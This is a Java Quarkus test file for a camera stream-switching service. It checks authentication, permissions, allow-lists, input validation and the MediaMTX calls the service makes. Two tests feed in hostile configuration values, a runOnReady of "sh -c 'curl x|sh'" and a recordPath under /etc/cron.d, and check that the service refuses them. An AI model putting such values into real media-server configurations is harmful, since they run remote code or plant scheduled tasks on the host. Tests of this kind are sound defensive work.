package io.joystick.switcher;

import static com.github.tomakehurst.wiremock.client.WireMock.deleteRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.equalToJson;
import static com.github.tomakehurst.wiremock.client.WireMock.patchRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.not;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;

import org.junit.jupiter.api.Test;

import com.github.tomakehurst.wiremock.client.BasicCredentials;
import com.github.tomakehurst.wiremock.client.WireMock;

import io.joystick.auth.testapp.JwksFileAuth;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;

/**
 * The endpoints: who may call them (401/403, permissions and allow-lists), bad input (400/404), and the
 * exact MediaMTX requests behind {@code /api/mode} and {@code /api/slot}.
 */
@QuarkusTest
@QuarkusTestResource(JwksFileAuth.class)
@QuarkusTestResource(Dependencies.class)
class EndpointsTest {

    static final BasicCredentials MEDIAMTX = new BasicCredentials(Dependencies.MEDIAMTX_USER, Dependencies.MEDIAMTX_PASSWORD);

    static void mediaMtxAnswers(String method, String path, int status, String body) {
        com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder response = WireMock.aResponse().withStatus(status);
        if (body != null) {
            response = response.withHeader("Content-Type", "application/json").withBody(body);
        }
        Stubs.mediaMtx().register(WireMock.request(method, urlPathEqualTo(path)).willReturn(response));
    }

    @Test
    void everyEndpointRefusesAnonymousCallersAndInvalidCredentials() {
        String device = Stubs.monitoredDevice("live", List.of());
        String[][] calls = { { "POST", "/api/slot/" + device + "/secondary" }, { "GET", "/api/health/" + device },
                { "GET", "/api/health/devices" }, { "POST", "/api/health/check" }, { "POST", "/api/mode/" + device + "/live" } };
        for (String[] call : calls) {
            given().request(call[0], call[1]).then().statusCode(401).header("WWW-Authenticate", "Bearer")
                    .body("success", equalTo(false)).body("error", equalTo("Authentication required"));
            given().header("X-API-Key", "not-a-key").request(call[0], call[1]).then().statusCode(401);
            given().auth().oauth2("not.a.jwt").request(call[0], call[1]).then().statusCode(401);
        }
        assertEquals(0, Stubs.deviceService().find(patchRequestedFor(urlPathEqualTo("/api/devices/" + device + "/slot"))).size());
        given().get("/api/health").then().statusCode(200).body("service", equalTo("switcher-client"));
    }

    @Test
    void switchingASlotNeedsToggleSlotAndTheAllowList() {
        String device = Stubs.monitoredDevice("live", List.of("ivan"));
        given().auth().oauth2(Stubs.user("ivan", "control-mode")).post("/api/slot/" + device + "/secondary").then()
                .statusCode(403).body("error", equalTo("Missing required permissions: toggle-slot"));
        given().auth().oauth2(Stubs.user("olga", "toggle-slot")).post("/api/slot/" + device + "/secondary").then()
                .statusCode(403).body("error", equalTo("Access denied: You don't have permission to control this device"));
        assertEquals(0, Stubs.deviceService().find(patchRequestedFor(urlPathEqualTo("/api/devices/" + device + "/slot"))).size());
    }

    @Test
    void anAllowedUserSwitchesTheSlotAndTheStreamFollows() {
        String device = Stubs.monitoredDevice("live", List.of("ivan"));
        given().auth().oauth2(Stubs.user("ivan", "toggle-slot")).post("/api/slot/" + device + "/secondary").then()
                .statusCode(200).body("success", equalTo(true)).body("activeSlot", equalTo("secondary"))
                .body("previousSlot", equalTo("primary")).body("changed", equalTo(true));
        Stubs.deviceService().verifyThat(1, patchRequestedFor(urlPathEqualTo("/api/devices/" + device + "/slot"))
                .withHeader("X-API-Key", WireMock.equalTo(Stubs.SERVICE_KEY))
                .withRequestBody(equalToJson("{\"slot\":\"secondary\"}")));
        Stubs.mediaMtx().verifyThat(1, patchRequestedFor(urlPathEqualTo("/v3/config/paths/patch/" + device))
                .withBasicAuth(MEDIAMTX)
                .withRequestBody(equalToJson("{\"source\":\"rtsp://" + Stubs.SECONDARY_HOST + ":8554/" + device + "\"}")));
        Stubs.notifications().verifyThat(1, postRequestedFor(urlPathEqualTo("/api/notifications/send"))
                .withRequestBody(WireMock.matchingJsonPath("$.deviceId", WireMock.equalTo(device)))
                .withRequestBody(WireMock.matchingJsonPath("$.type", WireMock.equalTo("info")))
                .withRequestBody(WireMock.matchingJsonPath("$.message", WireMock.containing("requested by user ivan"))));

        // already there: nothing to do
        given().auth().oauth2(Stubs.user("ivan", "toggle-slot")).post("/api/slot/" + device + "/secondary").then()
                .statusCode(200).body("changed", equalTo(false));
        assertEquals(1, Stubs.deviceService().find(patchRequestedFor(urlPathEqualTo("/api/devices/" + device + "/slot"))).size());
    }

    @Test
    void anUnconfiguredSecondaryIsRefused() {
        String device = Stubs.plainDevice("live", false, null, null, List.of());
        given().auth().oauth2(Stubs.admin()).post("/api/slot/" + device + "/secondary").then().statusCode(400)
                .body("success", equalTo(false)).body("error", equalTo("Device " + device + " has no secondary slot configured"));
        assertEquals(0, Stubs.deviceService().find(patchRequestedFor(urlPathEqualTo("/api/devices/" + device + "/slot"))).size());
    }

    @Test
    void unknownDevicesAreNotFoundAndBadNamesAreRefused() {
        String missing = Stubs.unique("ghost");
        Stubs.unknownDevice(missing);
        given().auth().oauth2(Stubs.admin()).post("/api/slot/" + missing + "/primary").then().statusCode(404)
                .body("error", equalTo("Device not found: " + missing));
        given().auth().oauth2(Stubs.admin()).get("/api/health/" + missing).then().statusCode(404);
        given().auth().oauth2(Stubs.admin()).post("/api/mode/" + missing + "/live").then().statusCode(404);
        given().auth().oauth2(Stubs.admin()).queryParam("device", missing).post("/api/health/check").then().statusCode(404);
        given().auth().oauth2(Stubs.admin()).post("/api/slot/x%20y/primary").then().statusCode(404);

        String device = Stubs.monitoredDevice("live", List.of());
        given().auth().oauth2(Stubs.admin()).post("/api/slot/" + device + "/tertiary").then().statusCode(400)
                .body("error", equalTo("slot: must be 'primary' or 'secondary'"));
        given().auth().oauth2(Stubs.admin()).post("/api/mode/" + device + "/dance").then().statusCode(400)
                .body("error", equalTo("mode: must be 'live', 'off' or 'auto'"));
    }

    @Test
    void liveAddsTheMediaMtxPathWithTheDeviceConfigurationAndOffDeletesIt() {
        String device = Stubs.plainDevice("off", false, Stubs.SECONDARY_HOST,
                "{\"path\":\"roof-cam-" + "x\",\"source\":\"rtsp://$host:8554/main\",\"rtspTransport\":\"tcp\"}", List.of("ivan"));
        mediaMtxAnswers("POST", "/v3/config/paths/add/roof-cam-x", 200, null);
        mediaMtxAnswers("DELETE", "/v3/config/paths/delete/roof-cam-x", 200, null);
        given().auth().oauth2(Stubs.user("ivan", "control-mode")).post("/api/mode/" + device + "/live").then()
                .statusCode(200).body("success", equalTo(true)).body("mode", equalTo("live")).body("path", equalTo("roof-cam-x"));
        Stubs.mediaMtx().verifyThat(1, postRequestedFor(urlPathEqualTo("/v3/config/paths/add/roof-cam-x")).withBasicAuth(MEDIAMTX)
                .withRequestBody(equalToJson("{\"source\":\"rtsp://" + Stubs.PRIMARY_HOST + ":8554/main\",\"rtspTransport\":\"tcp\"}")));
        given().auth().oauth2(Stubs.user("ivan", "control-mode")).post("/api/mode/" + device + "/off").then().statusCode(200);
        Stubs.mediaMtx().verifyThat(1, deleteRequestedFor(urlPathEqualTo("/v3/config/paths/delete/roof-cam-x")).withBasicAuth(MEDIAMTX));
        // no call back into device-service's set-mode
        assertEquals(0, Stubs.deviceService().find(postRequestedFor(urlPathEqualTo("/api/run/" + device + "/set-mode"))).size());
    }

    @Test
    void autoAddsAPathPulledOnDemandAndAnExistingPathIsReplaced() {
        String device = Stubs.plainDevice("off", false, null, "{\"source\":\"rtsp://$host/s\"}", List.of());
        mediaMtxAnswers("POST", "/v3/config/paths/add/" + device, 400, "{\"status\":\"error\",\"error\":\"path already exists\"}");
        mediaMtxAnswers("POST", "/v3/config/paths/replace/" + device, 200, null);
        given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + device + "/auto").then().statusCode(200);
        String expected = "{\"source\":\"rtsp://" + Stubs.PRIMARY_HOST + "/s\",\"sourceOnDemand\":true}";
        Stubs.mediaMtx().verifyThat(1, postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))
                .withRequestBody(equalToJson(expected)));
        Stubs.mediaMtx().verifyThat(1, postRequestedFor(urlPathEqualTo("/v3/config/paths/replace/" + device))
                .withBasicAuth(MEDIAMTX).withRequestBody(equalToJson(expected)));
    }

    @Test
    void mediaMtxDownIsA503NamingMediaMtx() {
        String device = Stubs.plainDevice("off", false, null, "{\"source\":\"rtsp://$host/s\"}", List.of());
        Stubs.mediaMtx().register(WireMock.post(urlPathEqualTo("/v3/config/paths/add/" + device))
                .willReturn(WireMock.aResponse().withFault(com.github.tomakehurst.wiremock.http.Fault.CONNECTION_RESET_BY_PEER)));
        given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + device + "/live").then().statusCode(503)
                .body("error", equalTo("MediaMTX is unreachable"));
    }

    @Test
    void aMediaMtxRefusalIsA502WithItsError() {
        String device = Stubs.plainDevice("off", false, null, "{\"source\":\"nonsense://$host\"}", List.of());
        mediaMtxAnswers("POST", "/v3/config/paths/add/" + device, 400,
                "{\"status\":\"error\",\"error\":\"invalid source: 'nonsense://10.9.0.1'\"}");
        given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + device + "/live").then().statusCode(502)
                .body("success", equalTo(false))
                .body("error", equalTo("MediaMTX refused (400): invalid source: 'nonsense://10.9.0.1'"));
        String devicePath = Stubs.plainDevice("off", false, null, null, List.of());
        mediaMtxAnswers("DELETE", "/v3/config/paths/delete/" + devicePath, 404, "{\"status\":\"error\",\"error\":\"path not found\"}");
        given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + devicePath + "/off").then().statusCode(200);
    }

    @Test
    void configurationThatWouldRunCommandsOnTheMediaServerIsRefused() {
        String device = Stubs.plainDevice("off", false, null, "{\"runOnReady\":\"sh -c 'curl x|sh'\"}", List.of());
        given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + device + "/live").then().statusCode(400)
                .body("error", org.hamcrest.Matchers.startsWith("configuration: runOnReady not allowed; allowed are "));
        assertEquals(0, Stubs.mediaMtx().find(postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))).size());
    }

    @Test
    void configurationThatWouldWriteFilesOnTheMediaServerIsRefused() {
        String device = Stubs.plainDevice("off", false, null,
                "{\"source\":\"rtsp://$host:8554/cam\",\"record\":true,\"recordPath\":\"/etc/cron.d/%path\"}", List.of());
        given().header("X-API-Key", Stubs.SERVICE_KEY).post("/api/mode/" + device + "/live").then().statusCode(400)
                .body("error", org.hamcrest.Matchers.containsString("record, recordPath not allowed"))
                .body("error", org.hamcrest.Matchers.containsString("source, sourceFingerprint, sourceOnDemand"));
        assertEquals(0, Stubs.mediaMtx().find(postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))).size());
    }

    @Test
    void changingModeNeedsControlModeAndTheAllowList() {
        String device = Stubs.plainDevice("off", false, null, null, List.of("ivan"));
        given().auth().oauth2(Stubs.user("ivan", "toggle-slot")).post("/api/mode/" + device + "/live").then()
                .statusCode(403).body("error", equalTo("Missing required permissions: control-mode"));
        given().auth().oauth2(Stubs.user("olga", "control-mode")).post("/api/mode/" + device + "/live").then()
                .statusCode(403);
        assertEquals(0, Stubs.mediaMtx().find(postRequestedFor(urlPathEqualTo("/v3/config/paths/add/" + device))).size());
    }

    @Test
    void aDevicesHealthIsForUsersOnItsAllowList() {
        String device = Stubs.monitoredDevice("live", List.of("ivan"));
        given().auth().oauth2(Stubs.user("ivan")).get("/api/health/" + device).then().statusCode(200)
                .body("device", equalTo(device)).body("monitored", equalTo(true)).body("activeSlot", equalTo("primary"))
                .body("slots.primary.status", equalTo("unknown")).body("slots.primary.host", equalTo(Stubs.PRIMARY_HOST));
        given().auth().oauth2(Stubs.user("olga", "system-status")).get("/api/health/" + device).then().statusCode(403);
    }

    @Test
    void devicesNamedLikeTheLiteralPathsHaveTheirHealthServed() {
        for (String id : List.of("devices", "check")) {
            Stubs.plainDevice(id, "off", false, null, "{}", List.of("ivan"));
            given().auth().oauth2(Stubs.user("ivan")).get("/api/health/devices/" + id).then().statusCode(200)
                    .body("device", equalTo(id)).body("monitored", equalTo(false));
        }
        String device = Stubs.monitoredDevice("live", List.of("ivan"));
        given().auth().oauth2(Stubs.user("ivan")).get("/api/health/devices/" + device).then().statusCode(200)
                .body("device", equalTo(device));
    }

    @Test
    void aFullRunChecksMonitoredDevicesAndReportsThoseWithoutASecondSlot() {
        given().auth().oauth2(Stubs.user("ivan", "toggle-slot")).get("/api/health/devices").then().statusCode(403)
                .body("error", equalTo("Missing required permissions: system-status"));
        given().auth().oauth2(Stubs.user("ivan", "system-status")).post("/api/health/check").then().statusCode(403);

        given().auth().oauth2(Stubs.admin()).post("/api/health/check").then().statusCode(200)
                .body("checked", equalTo(List.of("listed-monitored")))
                .body("withoutSecondary", equalTo(List.of("listed-no-secondary")));
        Stubs.deviceService().verifyThat(0, postRequestedFor(urlPathEqualTo("/api/run/listed-no-secondary/slot-check")));
        given().auth().oauth2(Stubs.admin()).get("/api/health/devices").then().statusCode(200)
                .body("shard", equalTo("0/1")).body("devices.device", equalTo(List.of("listed-monitored")))
                .body("devices[0].slots.primary.status", equalTo("healthy"))
                .body("withoutSecondary", equalTo(List.of("listed-no-secondary")));

        // a user with system-status sees only the devices on whose allow-list they are
        Stubs.allow("listed-monitored", List.of("ivan"));
        Stubs.allow("listed-no-secondary", List.of());
        given().auth().oauth2(Stubs.user("olga", "system-status")).get("/api/health/devices").then().statusCode(200)
                .body("devices.device", not(hasItem("listed-monitored")));
    }
}
